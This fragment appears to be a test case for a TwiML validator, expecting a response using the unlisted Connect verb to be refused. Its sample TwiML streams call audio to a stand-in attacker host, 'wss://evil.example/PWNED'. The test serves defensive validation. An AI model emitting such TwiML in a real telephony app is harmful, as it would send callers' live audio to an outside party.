# class: the verb Connect, which is not listed; expected: refused twiml
response = "<Response><Connect><Stream url='wss://evil.example/PWNED'/></Connect></Response>"
